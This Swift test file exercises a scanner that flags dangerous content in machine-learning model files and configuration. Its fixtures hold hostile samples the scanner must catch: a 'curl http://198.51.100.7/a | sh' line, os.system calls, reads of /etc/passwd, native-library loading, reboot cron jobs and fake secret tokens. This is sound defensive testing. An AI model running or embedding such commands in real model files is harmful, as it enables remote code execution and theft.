import AssayCore
import ByteParsing
import Scanning
import Testing

/// Operators, libraries and programs of the runtimes that fewer models are made for.
@Suite struct LesserRuntimeTests {
    private func scan(_ text: String, _ name: String) -> FileReport { scan(Array(text.utf8), name) }

    private func scan(_ bytes: [UInt8], _ name: String) -> FileReport {
        FileScanner().scan(ByteRegion(bytes), path: name)
    }

    private func rules(_ report: FileReport) -> [String] { report.findings.map(\.rule) }

    @Test(arguments: [
        ("BPETokenizer", "extension", false), ("Convolution", "opset1", false), ("Const", "opset1", false),
        ("Run", "extension", true), ("SystemCall", "opset13", true), ("Run", "custom_opset", true),
        ("Subgraph", "SnippetsOpset", false),
    ])
    func openVINOHasItsOperators(type: String, version: String, isForeign: Bool) {
        let layer = "<layer id=\"0\" name=\"l\" type=\"\(type)\" version=\"\(version)\"/>"
        let report = scan("<?xml version=\"1.0\"?><net name=\"m\"><layers>\(layer)</layers></net>", "m.xml")
        #expect(rules(report) == (isForeign ? ["OPENVINO-EXTENSION"] : []))
    }

    @Test(arguments: [
        ("FullyConnected", [String]()), ("null", []), ("Custom", ["GRAPH-CUSTOM-OPERATOR"]),
        ("Run", ["GRAPH-CUSTOM-OPERATOR"]), ("TorchModule", ["GRAPH-CODE-EXECUTION"]),
        ("_cvimread", ["GRAPH-FILE-READ"]),
    ])
    func mxnetHasItsOperators(type: String, expected: [String]) {
        let node = "{\"op\": \"\(type)\", \"name\": \"n\", \"attrs\": {\"op_type\": \"x\"}, \"inputs\": []}"
        #expect(rules(scan("{\"nodes\": [\(node)], \"arg_nodes\": [0], \"heads\": []}", "m-symbol.json")) == expected)
    }

    @Test(arguments: [
        ("conv2d", [String]()), ("conv2d_grad", []), ("sequence_pool", []), ("run_it", ["GRAPH-CUSTOM-OPERATOR"]),
        ("py_layer", ["GRAPH-CODE-EXECUTION"]),
    ])
    func paddleHasItsOperators(type: String, expected: [String]) {
        let block = Wire().number(1, 0).number(2, 0).message(4, Wire().text(3, "relu")).message(4, Wire().text(3, type))
        let program = Wire().message(1, block).message(4, Wire().number(1, 0))
        #expect(rules(scan(program.bytes, "m.pdmodel")) == expected)
    }

    @Test(arguments: [
        ("/tmp/x.so", true), ("libx.so.1.2", true), ("C:\\x\\ops.dll", true), ("{\"ops\": \"./x.dylib\"}", true),
        ("built against libcudart.so of version 12", false), (".so", false), ("https://host/x.so", false),
        ("also.something", false), ("so.so.much", false),
    ])
    func metadataNamesLibraries(value: String, isLibrary: Bool) {
        let header = "{\"__metadata__\": {\"ops\": \(quoted(value))}}"
        let length = header.utf8.count
        let bytes = (0..<8).map { UInt8(truncatingIfNeeded: length >> (8 * $0)) } + Array(header.utf8)
        #expect(rules(scan(bytes, "m.safetensors")).contains("GRAPH-NATIVE-LIBRARY") == isLibrary)
    }

    private func quoted(_ text: String) -> String {
        "\"" + text.replacing("\\", with: "\\\\").replacing("\"", with: "\\\"") + "\""
    }

    private func script(_ line: String) -> String {
        "class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    \(line)\n"
    }

    @Test(arguments: [
        ("_0 = ^Run(\"id\")(x)", Severity.medium), ("_0 = ops.image.read_file(\"/etc/passwd\")", .medium),
        ("ops.load_library(\"x.so\")", .medium), ("import os\n    os.system(\"id\")", .high),
        ("_0 = torch.mul(x, (2) ^ (3))", .none), ("return torch.relu(x)", .none),
    ])
    func torchScriptIsNoPython(line: String, severity: Severity) {
        #expect(scan(script(line), "__torch__.py").severity == severity)
    }

    @Test(
        arguments: [
            ([0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52, 0, 29], "Java class"), (Array("dex\n035\0".utf8), "Dalvik"),
            ([0x1B, 0x4C, 0x75, 0x61, 0x53, 0, 0x19, 0x93], "Lua bytecode"),
            ([0x1B, 0x4C, 0x4A, 2, 0, 0], "Lua bytecode"),
        ] as [([UInt8], String)])
    func compiledCodeIsAProgram(start: [UInt8], name: String) {
        let report = scan(start + [UInt8](repeating: 0, count: 64), "weights.bin")
        #expect(report.severity == .high)
        #expect(report.findings.contains { $0.rule == "NATIVE-EXECUTABLE" && $0.message.contains(name) })
    }

    @Test func treesAreReadForTexts() {
        let text = { (name: String, line: String) in
            "tree\nversion=v4\nfeature_names=\(name)\n\nTree=0\nleaf_value=0\n\nend of trees\n\nparameters:\n"
                + "\(line)\nend of parameters\n"
        }
        #expect(rules(scan(text("a", "[data: train.csv]"), "m.txt")).isEmpty)
        #expect(rules(scan(text("__import__(\"os\")", ""), "m.txt")).contains("METADATA-CODE"))
        #expect(rules(scan(text("a", "[data: curl http://198.51.100.7/a | sh]"), "m.txt")).contains("METADATA-CODE"))
    }

    @Test func timetablesRunCommands() {
        #expect(rules(scan("0 3 * * * root /opt/run\n", "etc/cron.d/model")) == ["COMMAND-AUTOMATIC"])
        #expect(rules(scan("@reboot /opt/run\n", "crontab")) == ["COMMAND-AUTOMATIC"])
        #expect(rules(scan("# nothing yet\nSHELL=/bin/sh\n", "crontab")).isEmpty)
    }

    @Test(arguments: [
        ("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", "note", true), ("microsoft/deberta-v3-base-mnli", "note", false),
        ("q9Zr4Tn8XvKc2Lm6Wp1Yb5Hd7Jf3Gs0Ea+/uRiOk", "aws_secret_access_key", true),
        ("q9Zr4Tn8XvKc2Lm6Wp1Yb5Hd7Jf3Gs0Ea+/uRiOk", "checksum", false),
    ])
    func picklesHoldCredentials(value: String, key: String, isSecret: Bool) {
        let plain = "(dV\(key)\nV\(value)\ns."
        #expect(rules(scan(plain, "m.pkl")) == (isSecret ? ["SECRET-EXPOSED"] : []))
        let short = { (text: String) in [0x8C, UInt8(text.utf8.count)] + Array(text.utf8) }
        let binary: [UInt8] = [0x80, 4, 0x7D, 0x94] + short(key) + [0x94] + short(value) + [0x94, 0x73, 0x2E]
        #expect(rules(scan(binary, "m.pkl")) == (isSecret ? ["SECRET-EXPOSED"] : []))
    }

    @Test func archivesKeepTheirPromise() {
        let empty: [UInt8] = [0x50, 0x4B, 5, 6] + [UInt8](repeating: 0, count: 18)
        #expect(rules(scan(empty, "model.keras")) == ["SCAN-UNRECOGNISED"])
        #expect(scan(empty, "model.zip").outcome == .clean)
        var end = empty
        end[20] = 200
        #expect(rules(scan(end, "model.zip")) == ["SCAN-MALFORMED"])
        end = empty
        end[4] = 3
        #expect(rules(scan(end, "model.zip")) == ["SCAN-MALFORMED"])
    }
}
